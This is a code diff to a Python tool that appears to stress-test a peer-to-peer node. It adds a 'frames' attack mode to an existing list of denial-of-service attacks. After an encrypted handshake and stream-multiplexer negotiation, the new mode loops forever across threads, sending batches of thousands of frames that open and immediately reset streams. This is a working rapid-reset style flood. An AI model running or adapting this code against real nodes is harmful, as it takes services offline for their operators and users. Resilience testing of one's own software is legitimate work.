@@ -126,6 +126,18 @@ def handshake(port: int) -> None:
         line.recv(4096)
 
 
+def frames(port: int) -> None:
+    """Handshakes, then as many frames of twelve bytes as are taken: streams that are opened and reset."""
+    line, state = shake_hands(port, honest_payload)
+    with line:
+        send_message(line, state.encrypt(MULTISTREAM + YAMUX))
+        number = 1
+        while True:
+            opened = [struct.pack(">BBHII", 0, 1, flags, number + 2 * at, 0) for at in range(2500) for flags in (1, 8)]
+            send_message(line, state.encrypt(b"".join(opened)))
+            number += 5000
+
+
 def rsa_key(port: int, shown: bytes) -> None:
     """Handshakes with a key that takes long to parse."""
     line, _ = shake_hands(port, lambda _: shown)
@@ -239,6 +251,8 @@ def attack(what: str, port: int) -> None:
             run_threads(lambda: half_open(port, held))
         case "handshake":
             run_threads(lambda: handshake(port))
+        case "frames":
+            run_threads(lambda: frames(port))
         case "rsa":
             key = slow_key()
             run_threads(lambda: rsa_key(port, key))
@@ -253,6 +267,7 @@ ATTACKS: Final = {
     "connect": "connections made anew as soon as they are closed",
     "half-open": "connections that say nothing",
     "handshake": "handshakes of ever new identities",
+    "frames": "links of ever new identities that open and reset streams",
     "rsa": "handshakes with an RSA key of 50 kB",
     "names": "links of ever new identities with long names and reasons",
     "join": "join requests with worthless invites",
